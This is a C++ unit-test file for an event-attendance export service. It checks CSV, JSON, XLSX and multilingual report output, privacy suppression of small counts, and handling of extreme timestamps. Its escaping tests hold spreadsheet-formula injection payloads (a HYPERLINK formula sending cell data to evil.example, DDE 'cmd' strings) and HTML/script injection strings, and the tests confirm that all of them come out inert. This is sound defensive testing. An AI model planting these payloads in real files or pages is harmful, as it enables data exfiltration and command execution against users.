// Every export of an event written by the real Redis Functions, checked against the known truth
// of tests/services/export/event_fixture.cpp.
#include <google/protobuf/util/json_util.h>
#include <gtest/gtest.h>
#include <boost/json.hpp>

#include <unistd.h>

#include <algorithm>
#include <cctype>
#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>
#include <thread>

#include "rollcall/v1/export.pb.h"
#include "services/export/csv_sink.h"
#include "services/export/export_job.h"
#include "services/export/json_sink.h"
#include "services/export/xlsx_sink.h"
#include "services/registry/csv_reader.h"
#include "services/store/keys.h"
#include "tests/services/export/event_fixture.h"
#include "tests/support/gateway_process.h"
#include "tools/export/event_reader.h"

namespace rollcall::services::exporting {
namespace {

using tests::exporting::ExportEvent;
using Csv = std::vector<std::vector<std::string>>;

#define EXPECT_CONTAINS(text, part) \
  EXPECT_NE((text).find(part), std::string::npos) << "looking for: " << (part) << "\nin: " << (text)

class ExportTest : public ::testing::Test {
 protected:
  std::string run(Table table, Format format, int suppress_below = 0,
                  Language language = Language::en) {
    std::string error;
    rollcall::redis::SyncSession session(*redis::Url::parse(event_.redis().url(), &error));
    tools::exporting::EventReader reader(session, ExportEvent::kEvent);
    const auto event = reader.event();
    const auto registry = reader.registry();
    ExportJob job({table, format, language, suppress_below}, event, registry);
    std::string out, bytes;
    // Small chunks, so that paging through the stream is exercised too.
    reader.read_log(
        [&](const std::vector<LogEntry>& entries) {
          for (const auto& entry : entries) job.feed(entry);
          while (job.take(&bytes, 100)) out += bytes;
        },
        "+", 4);
    job.finish();
    while (job.take(&bytes, 100)) out += bytes;
    return out;
  }

  static Csv parse_csv(const std::string& text) {
    std::istringstream in(text);
    registry::CsvReader reader(in);
    Csv rows;
    while (auto record = reader.next()) {
      EXPECT_TRUE(record->ok()) << record->error;
      rows.push_back(record->fields);
    }
    EXPECT_FALSE(reader.broken());
    return rows;
  }

  // The row whose first columns are `key`, as column name -> value.
  static std::map<std::string, std::string> find_row(const Csv& csv,
                                                     const std::vector<std::string>& key) {
    for (std::size_t r = 1; r < csv.size(); ++r) {
      if (std::equal(key.begin(), key.end(), csv[r].begin())) {
        std::map<std::string, std::string> row;
        for (std::size_t c = 0; c < csv[0].size() && c < csv[r].size(); ++c) {
          row[csv[0][c]] = csv[r][c];
        }
        return row;
      }
    }
    ADD_FAILURE() << "no row " << ::testing::PrintToString(key);
    return {};
  }

  ExportEvent event_;
};

TEST_F(ExportTest, CountriesPerDayMatchTheTruth) {
  event_.add_presence();
  const auto csv = parse_csv(run(Table::countries, Format::csv));
  ASSERT_FALSE(csv.empty());
  EXPECT_EQ(csv[0], (std::vector<std::string>{"day", "country", "onsite", "remote", "either",
                                              "inside_peak"}));
  auto counts = [&](const std::string& day, const std::string& country) {
    const auto row = find_row(csv, {day, country});
    return row.empty() ? std::string("missing")
                       : row.at("onsite") + "/" + row.at("remote") + "/" + row.at("either") + "/" +
                             row.at("inside_peak");
  };
  EXPECT_EQ(counts("2025-07-07", "CH"), "1/0/1/1");
  EXPECT_EQ(counts("2025-07-07", "EG"), "1/1/1/1");  // A2 on site and online: once in either
  EXPECT_EQ(counts("2025-07-07", "CN"), "1/0/1/1");
  EXPECT_EQ(counts("2025-07-07", "FR"), "1/0/1/1");  // the late offline replay counts
  EXPECT_EQ(counts("2025-07-07", "JP"), "0/1/1/0");  // online only, no badge
  EXPECT_EQ(counts("2025-07-08", "CH"), "1/0/1/1");
  EXPECT_EQ(counts("2025-07-08", ""), "1/0/1/1");  // international organization
  EXPECT_EQ(counts("2025-07-08", "EG"), "0/1/1/0");
  EXPECT_EQ(counts("2025-07-09", "BR"), "0/1/1/0");
  EXPECT_EQ(counts("all", "CH"), "1/0/1/1");
  EXPECT_EQ(counts("all", "EG"), "1/1/1/1");
  EXPECT_EQ(counts("all", ""), "1/0/1/1");
  EXPECT_EQ(counts("2025-07-08", "KE"), "0/1/1/0");  // counted out when its lease expired
  EXPECT_EQ(csv.size(), 1u + 5 + 4 + 2 + 8);         // header, day 1, day 2, day 3, all
}

TEST_F(ExportTest, CategoriesListEveryConfiguredCategory) {
  const auto csv = parse_csv(run(Table::categories, Format::csv));
  ASSERT_FALSE(csv.empty());
  auto counts = [&](const std::string& day, const std::string& category) {
    const auto row = find_row(csv, {day, category});
    return row.empty() ? std::string("missing")
                       : row.at("onsite") + "/" + row.at("either") + "/" + row.at("inside_peak");
  };
  EXPECT_EQ(find_row(csv, {"all", "minister"}).at("label"), "Ministers and deputy ministers");
  EXPECT_EQ(counts("all", "minister"), "1/1/1");  // A6 is a revoked minister: refused
  EXPECT_EQ(counts("all", "un"), "2/2/1");        // A2 on day 1, A5 on days 2 and 3
  EXPECT_EQ(counts("2025-07-07", "regulator"), "1/1/1");
  EXPECT_EQ(counts("2025-07-09", "un"), "1/1/1");
  EXPECT_EQ(counts("2025-07-09", "minister"), "0/0/0");
  EXPECT_EQ(csv.size(), 1u + 4 * 10);  // every default category, three days and "all"
}

TEST_F(ExportTest, AttendeesRoundTripNamesAndHoldTheDays) {
  event_.add_presence();
  const auto text = run(Table::attendees, Format::csv);
  const auto csv = parse_csv(text);
  ASSERT_EQ(csv.size(), 8u);  // header and the seven registered badges
  EXPECT_EQ(csv[0].size(), 7u + 3 * 4);
  EXPECT_EQ(csv[0][5], "earlier_badges");
  EXPECT_EQ(csv[0][6], "registered_by");
  EXPECT_EQ(csv[0][7], "2025-07-07 attendance");
  EXPECT_EQ(csv[0][18], "2025-07-09 minutes_online");

  auto a1 = find_row(csv, {"A1"});
  EXPECT_EQ(a1["name"], "Zoë Müller-Ångström");
  EXPECT_EQ(a1["organization"], "Département fédéral");
  EXPECT_EQ(a1["2025-07-07 attendance"], "onsite");
  EXPECT_EQ(a1["2025-07-07 first_entry"], "09:00:00");
  EXPECT_EQ(a1["2025-07-07 last_exit"], "12:00:00");
  EXPECT_EQ(a1["2025-07-08 first_entry"], "08:30:00");
  EXPECT_EQ(a1["2025-07-08 last_exit"], "18:00:00");
  EXPECT_EQ(a1["2025-07-09 attendance"], "absent");
  EXPECT_EQ(a1["2025-07-09 first_entry"], "");

  auto a2 = find_row(csv, {"A2"});
  EXPECT_EQ(a2["name"], "محمد عبد الله");
  EXPECT_EQ(a2["organization"], "الأمم المتحدة");
  EXPECT_EQ(a2["2025-07-07 attendance"], "both");
  EXPECT_EQ(a2["2025-07-07 minutes_online"], "30");
  EXPECT_EQ(a2["2025-07-08 attendance"], "remote");
  EXPECT_EQ(a2["2025-07-08 minutes_online"], "40");  // two devices overlapping: 10:00 to 10:40

  auto a3 = find_row(csv, {"A3"});
  EXPECT_EQ(a3["name"], "王小明");
  EXPECT_EQ(a3["organization"], "中国电信管理局");
  auto a4 = find_row(csv, {"A4"});
  EXPECT_EQ(a4["name"], "Jean \"JJ\", Dupont");
  EXPECT_EQ(a4["2025-07-07 first_entry"], "09:30:00");  // device time of the offline replay
  EXPECT_EQ(find_row(csv, {"A6"})["2025-07-07 attendance"], "absent");
  auto a7 = find_row(csv, {"A7"});
  EXPECT_EQ(a7["2025-07-09 attendance"], "remote");
  EXPECT_EQ(a7["2025-07-09 minutes_online"], "10");  // the rest belongs to 10 July
  EXPECT_CONTAINS(text, "\r\n");
}

TEST_F(ExportTest, ScansListEveryLoggedScan) {
  event_.add_presence();  // joins and leaves are not scans
  const auto csv = parse_csv(run(Table::scans, Format::csv));
  ASSERT_EQ(csv.size(), 1u + 19);  // the replayed s1 changed nothing and is not logged twice
  EXPECT_EQ(csv[0],
            (std::vector<std::string>{"log_id", "scan_id", "badge_id", "desk_id", "zone",
                                      "direction", "status", "reason", "device_time", "server_time",
                                      "day", "late", "device_time_ignored", "manual"}));
  std::map<std::string, std::string> status_of;
  for (std::size_t r = 1; r < csv.size(); ++r) status_of[csv[r][1]] = csv[r][6];
  EXPECT_EQ(status_of["s1"], "accepted");
  EXPECT_EQ(status_of["s5"], "already_inside");
  EXPECT_EQ(status_of["s8"], "not_inside");
  EXPECT_EQ(status_of["s9"], "revoked");
  EXPECT_EQ(status_of["s10"], "unknown_badge");
  EXPECT_EQ(status_of["s16"], "wrong_day");
  EXPECT_EQ(status_of["s17"], "not_allowed");
  EXPECT_EQ(csv[1][1], "s1");  // log order
  for (std::size_t r = 1; r < csv.size(); ++r) {
    EXPECT_EQ(csv[r][12], "no") << csv[r][1];
    EXPECT_EQ(csv[r][13], "") << csv[r][1];  // every badge was scanned: no check-in by hand
    if (csv[r][1] != "s11") {
      EXPECT_EQ(csv[r][11], "no") << csv[r][1];
      continue;
    }
    EXPECT_EQ(csv[r][11], "yes");
    EXPECT_EQ(csv[r][8], "2025-07-07 09:30:00");
    EXPECT_EQ(csv[r][9], "2025-07-07 15:00:00");
    EXPECT_EQ(csv[r][7], "first entry of the day");
  }
}

// A .json export is one JSON document, as a strict parser reads it: an array of rows, each in
// protobuf's JSON mapping. Every table, with rows and without.
std::vector<std::string> json_rows(const std::string& text) {
  boost::system::error_code error;
  const auto value = boost::json::parse(text, error);  // strict: no comments, no trailing comma
  EXPECT_FALSE(error) << error.message() << "\nin: " << text.substr(0, 400);
  std::vector<std::string> rows;
  if (error || !value.is_array()) {
    ADD_FAILURE() << "not one JSON array: " << text.substr(0, 400);
    return rows;
  }
  for (const auto& row : value.as_array()) {
    EXPECT_TRUE(row.is_object());
    rows.push_back(boost::json::serialize(row));
  }
  return rows;
}

TEST_F(ExportTest, JsonIsOneDocumentOfEveryTable) {
  EXPECT_EQ(content_type(Format::json), "application/json");
  // A table without rows is still one document, and JSON Lines of it an empty file.
  for (const bool began : {false, true}) {
    JsonSink array(JsonSink::Layout::array), lines(JsonSink::Layout::lines);
    if (began) array.begin_table("scans", {}), lines.begin_table("scans", {});
    array.finish();
    lines.finish();
    std::string out, chunk;
    while (array.take(&chunk, 100)) out += chunk;
    EXPECT_TRUE(json_rows(out).empty()) << out;
    EXPECT_FALSE(lines.take(&chunk, 100));
  }
  event_.add_presence();
  std::map<std::string, std::size_t> counts;
  for (const auto table :
       {Table::attendees, Table::scans, Table::countries, Table::categories, Table::summary}) {
    SCOPED_TRACE(table_name(table));
    const auto rows = json_rows(run(table, Format::json));
    EXPECT_FALSE(rows.empty());
    // The same rows as JSON Lines, one a line, and as CSV (its header row aside).
    const auto lines = run(table, Format::jsonl);
    EXPECT_EQ(static_cast<std::size_t>(std::count(lines.begin(), lines.end(), '\n')), rows.size());
    EXPECT_EQ(parse_csv(run(table, Format::csv)).size(), rows.size() + 1);
    counts[std::string(table_name(table))] = rows.size();
  }
  EXPECT_EQ(content_type(Format::jsonl), "application/x-ndjson");
  EXPECT_EQ(parse_format("jsonl"), Format::jsonl);
  EXPECT_EQ(counts["attendees"], 7u);
}

TEST_F(ExportTest, JsonRowsAreProtoRows) {
  event_.add_presence();
  const auto text = run(Table::summary, Format::json);
  std::map<std::string, int> figures;
  for (const auto& json : json_rows(text)) {
    v1::SummaryRow row;
    ASSERT_TRUE(google::protobuf::util::JsonStringToMessage(json, &row).ok()) << json;
    if (row.day().empty())
      figures[row.figure() + (row.key().empty() ? "" : ":" + row.key())] = row.value();
  }
  EXPECT_EQ(figures["participants"], 8);  // A1..A5 on site; A7, P2 and P4 online only
  EXPECT_EQ(figures["onsite"], 5);
  EXPECT_EQ(figures["remote"], 4);
  EXPECT_EQ(figures["hybrid"], 1);
  EXPECT_EQ(figures["countries_any"], 7);  // CH EG CN FR JP BR KE; A5 has no country
  EXPECT_EQ(figures["countries_onsite"], 4);
  EXPECT_EQ(figures["countries_remote"], 4);
  EXPECT_EQ(figures["days"], 3);
  EXPECT_EQ(figures["peak_online"], 1);
  EXPECT_EQ(figures["inside_peak"], 4);
  EXPECT_EQ(figures["category:minister"], 1);
  EXPECT_EQ(figures["category:un"], 2);
  EXPECT_EQ(figures["category:media"], 1);
  EXPECT_CONTAINS(text, "{\"figure\":\"onsite\",\"day\":\"2025-07-08\",\"key\":\"\",");

  const auto scans = run(Table::scans, Format::jsonl);
  std::istringstream scan_lines(scans);
  std::string line;
  ASSERT_TRUE(std::getline(scan_lines, line));
  v1::ScanRow first;
  ASSERT_TRUE(google::protobuf::util::JsonStringToMessage(line, &first).ok()) << line;
  EXPECT_EQ(first.scan_id(), "s1");
  EXPECT_EQ(first.status(), v1::accepted);
  EXPECT_CONTAINS(line, "\"status\":\"accepted\"");
  EXPECT_CONTAINS(line, "\"device_time\":\"2025-07-07T07:00:00Z\"");
}

TEST_F(ExportTest, SmallCellsAreSuppressedInPublicTables) {
  event_.add_presence();
  const auto csv = parse_csv(run(Table::countries, Format::csv, 3));
  EXPECT_EQ(find_row(csv, {"all", "CH"}).at("onsite"), "<3");
  EXPECT_EQ(find_row(csv, {"all", "CH"}).at("remote"), "0");  // zero reveals nobody
  const auto json = run(Table::countries, Format::json, 3);
  EXPECT_CONTAINS(json, "\"suppressed\":[\"onsite\",\"either\",\"inside_peak\"]");
  EXPECT_EQ(json.find("\"onsite\":1"), std::string::npos);

  const auto categories = parse_csv(run(Table::categories, Format::csv, 2));
  EXPECT_EQ(find_row(categories, {"all", "un"}).at("onsite"), "2");  // 2 is not below 2
  EXPECT_EQ(find_row(categories, {"all", "minister"}).at("onsite"), "<2");

  const auto summary = parse_csv(run(Table::summary, Format::csv, 3));
  EXPECT_EQ(find_row(summary, {"onsite", ""}).at("value"), "5");
  EXPECT_EQ(find_row(summary, {"countries_remote", ""}).at("value"), "4");
  EXPECT_EQ(find_row(summary, {"category", "", "minister"}).at("value"), "<3");
  EXPECT_EQ(find_row(summary, {"days", ""}).at("value"), "3");  // days are not people
}

TEST_F(ExportTest, HeadlineReportInThreeLanguages) {
  event_.add_presence();
  const auto en = run(Table::summary, Format::md);
  EXPECT_CONTAINS(en, "# WSIS+20 Test: participation");
  EXPECT_CONTAINS(en,
                  "WSIS+20 Test took place over 3 days (7–9 July 2025) and brought together "
                  "8 participants: 5 on site and 4 online, 1 of whom took part both on site "
                  "and online.");
  EXPECT_CONTAINS(en, "Participants came from 7 countries (4 represented on site, 4 online).");
  EXPECT_CONTAINS(en,
                  "They included 1 minister or deputy minister, 1 regulator and 2 UN "
                  "representatives.");
  EXPECT_CONTAINS(en, "| 7 July 2025 | 4 | 2 | 4 |");

  const auto fr = run(Table::summary, Format::txt, 0, Language::fr);
  EXPECT_CONTAINS(fr, "s’est tenu sur 3 jours (du 7 au 9 juillet 2025) et a réuni 8 participants");
  EXPECT_CONTAINS(fr,
                  "Parmi eux figuraient 1 ministre ou vice-ministre, 1 régulateur et 2 "
                  "représentants du système des Nations Unies.");

  const auto ar = run(Table::summary, Format::html, 0, Language::ar);
  EXPECT_CONTAINS(ar, "<html lang=\"ar\" dir=\"rtl\">");
  EXPECT_CONTAINS(ar, "@page");
  EXPECT_CONTAINS(ar, "3 أيام");
  EXPECT_CONTAINS(ar, "8 مشاركين");
  EXPECT_CONTAINS(ar, "7 دول");
  EXPECT_CONTAINS(ar, "الوزراء ونواب الوزراء: 1");
}

// Times from before this gateway believed only plausible clocks (or from a hand-edited log):
// year 1 and 9999, as join and leave times, as server times and as device times. The export's
// work and memory follow the entries, never the span between their times.
TEST_F(ExportTest, ExtremeTimesInTheLogCostEntriesNotTheirSpan) {
  event_.add_presence();
  constexpr std::int64_t kYear1 = -62'135'596'800'000, kYear9999 = 253'402'300'799'000;
  const auto d2 = ExportEvent::at("2025-07-08", "11:00"),
             d3 = ExportEvent::at("2025-07-09", "09:00");
  auto xadd = [&](std::vector<std::string> fields) {
    std::vector<std::string> command = {"XADD", store::log_key(ExportEvent::kEvent), "*"};
    command.insert(command.end(), fields.begin(), fields.end());
    event_.redis().command(command);
  };
  auto presence = [&](const std::string& kind, const std::string& status,
                      const std::string& participant, const std::string& badge,
                      const std::string& day, std::int64_t time_ms, std::int64_t server_ms) {
    xadd({"type",
          kind,
          "presence_id",
          participant + kind,
          "participant_id",
          participant,
          "badge_id",
          badge,
          "country",
          "",
          "category",
          "",
          "platform",
          "zoom",
          "session",
          "s",
          "status",
          status,
          "day",
          day,
          "time_ms",
          std::to_string(time_ms),
          "server_ms",
          std::to_string(server_ms),
          "via",
          "bridge",
          "count",
          "1"});
  };
  auto scan = [&](const std::string& id, const std::string& badge, const std::string& status,
                  const std::string& direction, std::int64_t device_ms, std::int64_t server_ms) {
    xadd({"type",      "scan",
          "scan_id",   id,
          "badge_id",  badge,
          "desk_id",   "d",
          "zone",      "hall",
          "direction", direction,
          "status",    status,
          "day",       "2025-07-09",
          "device_ms", std::to_string(device_ms),
          "server_ms", std::to_string(server_ms),
          "late",      "0"});
  };
  // A3 joined with a year-1 clock and left with a year-9999 one, an hour apart by the server.
  presence("join", "joined", "PX", "A3", "2025-07-08", kYear1, d2);
  presence("leave", "left", "PX", "A3", "2025-07-08", kYear9999, d2 + 3'600'000);
  // A5's join has a year-1 server time itself; A1 joined in 9999 and never left.
  presence("join", "joined", "PY", "A5", "2025-07-08", kYear1, kYear1);
  presence("leave", "left", "PY", "A5", "2025-07-08", d2, d2);
  presence("join", "joined", "PZ", "A1", "2025-07-09", kYear9999, kYear9999);
  presence("join", "joined", "PW", "", "0001-01-01", INT64_MIN, INT64_MIN);
  // A7 entered and left by a desk whose clock said 31 December 9999.
  scan("x1", "A7", "accepted", "in", kYear9999, d3);
  scan("x2", "A7", "exit", "out", kYear9999, d3 + 3'600'000);
  scan("x3", "A7", "exit", "out", INT64_MAX, d3 + 3'700'000);

  std::string error;
  rollcall::redis::SyncSession session(*redis::Url::parse(event_.redis().url(), &error));
  tools::exporting::EventReader reader(session, ExportEvent::kEvent);
  const auto event = reader.event();
  const auto registry = reader.registry();
  AttendanceFold fold(event, registry);
  std::size_t entries = 0;
  reader.read_log([&](const std::vector<LogEntry>& chunk) {
    for (const auto& entry : chunk) fold.feed(entry);
    entries += chunk.size();
  });
  fold.finish();
  // Per person: the event's three days, and at most the day at each end of a session.
  for (const auto& badge : registry) {
    if (const auto* person = fold.badge_person(badge.badge_id())) {
      EXPECT_LE(person->days.size(), 5u) << badge.badge_id();
    }
  }

  const auto attendees = parse_csv(run(Table::attendees, Format::csv));
  ASSERT_EQ(attendees.size(), 1u + registry.size());
  auto a7 = find_row(attendees, {"A7"});
  EXPECT_EQ(a7["2025-07-09 first_entry"], "09:00:00");  // the server's clock, not 9999's
  EXPECT_EQ(a7["2025-07-09 last_exit"], "10:01:40");
  auto a3 = find_row(attendees, {"A3"});
  EXPECT_EQ(a3["2025-07-08 minutes_online"], "60");

  const auto scans = parse_csv(run(Table::scans, Format::csv));
  std::size_t ignored = 0;
  for (std::size_t r = 1; r < scans.size(); ++r) {
    if (!scans[r][1].starts_with("x")) continue;
    EXPECT_EQ(scans[r][8], "") << scans[r][1];  // no device time shown
    EXPECT_EQ(scans[r][12], "yes") << scans[r][1];
    ++ignored;
  }
  EXPECT_EQ(ignored, 3u);
  // Every other table and format is written too, with every time inside protobuf's range.
  EXPECT_EQ(run(Table::scans, Format::json).find("9999-12-31"), std::string::npos);
  for (const auto table : {Table::countries, Table::categories, Table::summary}) {
    EXPECT_FALSE(run(table, Format::csv).empty());
  }
  EXPECT_FALSE(run(Table::attendees, Format::json).empty());
  EXPECT_FALSE(run(Table::all, Format::xlsx).empty());
  EXPECT_FALSE(run(Table::summary, Format::md).empty());
  EXPECT_GT(entries, 9u);
}

// Every lead a spreadsheet runs as a formula, ASCII and full-width, bare or behind what a
// spreadsheet may skip, before formula bodies of the kinds attackers use.
std::vector<std::string> formula_payloads() {
  std::vector<std::string> payloads;
  for (const char* lead :
       {"=", "+", "-", "@", "\t", "\r", "\n", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"}) {
    for (const char* before : {"", " ", "   ", "\u00A0", "\uFEFF", "\u3000", " \uFEFF "}) {
      for (const char* body : {"1+1", "HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
                               "cmd|' /C calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0", "2+3"}) {
        payloads.push_back(std::string(before) + lead + body);
      }
    }
  }
  return payloads;
}

TEST(CsvSinkTest, FormulaLikeTextIsInertAndNumbersStayNumbers) {
  for (const auto& payload : formula_payloads()) {
    EXPECT_EQ(inert_text(payload), "'" + payload) << payload;
  }
  for (const char* harmless : {"", "Zoë Müller", "1+1", "a=b", "UN-Habitat", "'=1", "<3",
                               "2025-07-07", "09:00:00", "\"=1\""}) {
    EXPECT_EQ(inert_text(harmless), harmless) << harmless;
  }
  CsvSink sink;
  sink.begin_table("t", {"a", "b", "c", "d", "e"});
  sink.row({std::string("=1+1"), std::int64_t{-5}, std::string("-5"), std::string("@SUM(1;2)"),
            std::string("x\t=1")},
           v1::SummaryRow{});
  std::string out;
  ASSERT_TRUE(sink.take(&out, 1 << 20));
  // Numbers stay bare numbers; text that a spreadsheet would split or run is quoted and inert.
  EXPECT_EQ(out, "a,b,c,d,e\r\n'=1+1,-5,'-5,\"'@SUM(1;2)\",\"x\t=1\"\r\n");
}

// Unescaped Markdown markup: characters that mean something inline, and what opens a block at
// the start of a line. An escaped character (backslash before ASCII punctuation) is text.
std::size_t markdown_markup(const std::string& md) {
  std::size_t count = 0;
  bool line_start = true;
  for (std::size_t i = 0; i < md.size(); ++i) {
    const char c = md[i];
    if (c == '\\' && i + 1 < md.size() && std::ispunct(static_cast<unsigned char>(md[i + 1]))) {
      ++i;
      line_start = false;
      continue;
    }
    if (std::string_view("`*_[]<>|~!&$").find(c) != std::string_view::npos) ++count;
    if (line_start) {
      const auto line = std::string_view(md).substr(i, md.find('\n', i) - i);
      const auto digits = line.find_first_not_of("0123456789");
      if (std::string_view("#+-=").find(c) != std::string_view::npos) ++count;
      if (digits > 0 && digits < line.size() && (line[digits] == '.' || line[digits] == ')')) {
        ++count;  // an ordered list
      }
      if (line.starts_with("    ") || line.starts_with("\t")) ++count;  // indented code
    }
    line_start = c == '\n';
  }
  return count;
}

TEST(HeadlineReportTest, TextFromTheEventFileIsNeverMarkup) {
  auto report = [](const std::string& text, ReportFormat format) {
    v1::Event event;
    event.set_event_id("ev");
    event.set_name(text);
    auto* category = event.add_categories();
    category->set_id("guests");
    category->set_label(text);
    category->set_headline(true);
    const std::vector<Figure> figures = {{"participants", "", "", "", 3},
                                         {"category", "", "guests", text, 2, true}};
    return headline_report(event, {"2025-07-07"}, figures, Language::en, format);
  };
  const auto md_base = report("Plain", ReportFormat::md);
  const auto txt_base = report("Plain", ReportFormat::txt);
  const auto html_base = report("Plain", ReportFormat::html);
  auto lines = [](const std::string& text) { return std::count(text.begin(), text.end(), '\n'); };
  auto count = [](const std::string& text, char c) {
    return std::count(text.begin(), text.end(), c);
  };
  std::vector<std::string> payloads = formula_payloads();
  for (const char* markup : {"# Heading",
                             "## x",
                             "- item",
                             "+ item",
                             "* item",
                             "1. item",
                             "2025) item",
                             "> quote",
                             "    indented code",
                             "```\ncode\n```",
                             "| a | b |",
                             "a | b",
                             "**bold** _it_ ~~s~~",
                             "[link](http://evil.example)",
                             "![img](http://evil.example/x.png)",
                             "<script>alert(1)</script>",
                             "<img src=x onerror=alert(1)>",
                             "&lt;b&gt;",
                             "line\nbreak",
                             "a\r\n# b",
                             "===",
                             "---",
                             "$x^2$",
                             "\x1b[31mred\x1b[0m",
                             "\u0085next line",
                             "back\\slash"}) {
    payloads.push_back(markup);
  }
  for (const auto& payload : payloads) {
    const auto md = report(payload, ReportFormat::md);
    EXPECT_EQ(markdown_markup(md), markdown_markup(md_base)) << payload << "\n" << md;
    EXPECT_EQ(lines(md), lines(md_base)) << payload << "\n" << md;
    const auto txt = report(payload, ReportFormat::txt);
    EXPECT_EQ(lines(txt), lines(txt_base)) << payload;
    EXPECT_EQ(std::count_if(txt.begin(), txt.end(),
                            [](unsigned char c) { return (c < 0x20 && c != '\n') || c == 0x7f; }),
              0)
        << payload;
    EXPECT_EQ(txt.find("\u0085"), std::string::npos) << payload;
    const auto html = report(payload, ReportFormat::html);
    EXPECT_EQ(count(html, '<'), count(html_base, '<')) << payload;
    EXPECT_EQ(count(html, '>'), count(html_base, '>')) << payload;
  }
  // Escaped, not lost: the words are still there.
  EXPECT_CONTAINS(report("WSIS+20 <Geneva>", ReportFormat::md), "WSIS+20 \\<Geneva\\>");
  EXPECT_CONTAINS(report("WSIS+20 <Geneva>", ReportFormat::html), "WSIS+20 &lt;Geneva&gt;");
  EXPECT_CONTAINS(report("a\nb", ReportFormat::txt), "a b took place");
}

// A workbook is dated by the data it holds (the newest log entry), not by the clock: the same
// log exported twice, a second apart or on a Redis rebuilt from an archive, gives the same bytes.
TEST(XlsxSinkTest, WorkbooksAreDatedByTheirDataNotTheClock) {
  const auto workbook = [](std::int64_t as_of_ms) {
    XlsxSink sink;
    sink.begin_table("t", {"name", "count"});
    for (int i = 0; i < 50; ++i) {
      sink.row({std::string("row ") + std::to_string(i), std::int64_t{i}}, v1::SummaryRow{});
    }
    sink.end_table();
    sink.set_as_of(as_of_ms);
    sink.finish();
    std::string bytes, chunk;
    while (sink.take(&chunk, 1 << 20)) bytes += chunk;
    return bytes;
  };
  const std::int64_t t = 1751900400123;  // 2025-07-07T15:00:00.123Z
  const auto first = workbook(t);
  std::this_thread::sleep_for(std::chrono::milliseconds(1100));
  EXPECT_TRUE(workbook(t) == first);
  EXPECT_FALSE(workbook(t + 86'400'000) == first);
  EXPECT_FALSE(workbook(0) == first);
  const auto path = std::filesystem::temp_directory_path() /
                    ("rollcall-xlsx-date-" + std::to_string(::getpid()) + ".xlsx");
  std::ofstream(path, std::ios::binary) << first;
  std::string core;
  ASSERT_EQ(tests::support::run_program(
                {"/usr/bin/python3", "-c",
                 "import sys, zipfile\n"
                 "print(zipfile.ZipFile(sys.argv[1]).read('docProps/core.xml').decode())\n",
                 path.string()},
                &core),
            0)
      << core;
  std::filesystem::remove(path);
  EXPECT_NE(core.find("2025-07-07T15:00:00Z"), std::string::npos) << core;
}

TEST(XlsxSinkTest, FormulaLikeTextIsStoredAsText) {
  XlsxSink sink;
  sink.begin_table("t", {"name"});
  const auto payloads = formula_payloads();
  for (const auto& payload : payloads) sink.row({payload}, v1::SummaryRow{});
  sink.finish();
  std::string bytes, chunk;
  while (sink.take(&chunk, 1 << 20)) bytes += chunk;
  const auto path = std::filesystem::temp_directory_path() /
                    ("rollcall-xlsx-test-" + std::to_string(::getpid()) + ".xlsx");
  std::ofstream(path, std::ios::binary) << bytes;
  std::string xml;
  ASSERT_EQ(tests::support::run_program(
                {"/usr/bin/python3", "-c",
                 "import sys, zipfile\n"
                 "book = zipfile.ZipFile(sys.argv[1])\n"
                 "for name in book.namelist():\n"
                 "    if name.startswith('xl/worksheets/'): print(book.read(name).decode())\n",
                 path.string()},
                &xml),
            0)
      << xml;
  std::filesystem::remove(path);
  EXPECT_EQ(xml.find("<f>"), std::string::npos);
  EXPECT_EQ(xml.find("<f "), std::string::npos);
  // Every payload a string cell (inline strings: the workbook is written in constant memory).
  std::size_t strings = 0;
  for (auto at = xml.find("t=\"inlineStr\""); at != std::string::npos;
       at = xml.find("t=\"inlineStr\"", at + 1)) {
    ++strings;
  }
  EXPECT_EQ(strings, 1 + payloads.size());
  EXPECT_CONTAINS(xml, "<t>=HYPERLINK(\"http://evil.example/?x=\"&amp;A1");
}

TEST(HeadlineWords, NumbersAndPlurals) {
  EXPECT_EQ(format_count(11000, Language::en), "11,000");
  EXPECT_EQ(format_count(1234567, Language::fr), "1\u202F234\u202F567");
  EXPECT_EQ(format_count(999, Language::ar), "999");
}

TEST(LogEntryTest, FieldsAndStreamIds) {
  LogEntry entry{"1751871600000-3", {{"type", "scan"}, {"late", "1"}, {"device_ms", "x"}}};
  EXPECT_EQ(entry.get("type"), "scan");
  EXPECT_EQ(entry.get("missing"), "");
  EXPECT_EQ(entry.get_int("late"), 1);
  EXPECT_EQ(entry.get_int("device_ms", 7), 7);
  EXPECT_EQ(entry.id_ms(), 1751871600000);
  EXPECT_EQ(next_stream_id("5-3"), "5-4");
  EXPECT_EQ(next_stream_id("5-18446744073709551615"), "6-0");
}

TEST(ExportOptionsTest, ProblemsAreExplained) {
  EXPECT_EQ(options_problem({Table::summary, Format::html}), "");
  EXPECT_NE(options_problem({Table::countries, Format::md}), "");
  EXPECT_NE(options_problem({Table::all, Format::csv}), "");
  EXPECT_NE(options_problem({Table::attendees, Format::csv, Language::en, 3}), "");
  EXPECT_EQ(options_problem({Table::countries, Format::csv, Language::en, 3}), "");
}

}  // namespace
}  // namespace rollcall::services::exporting
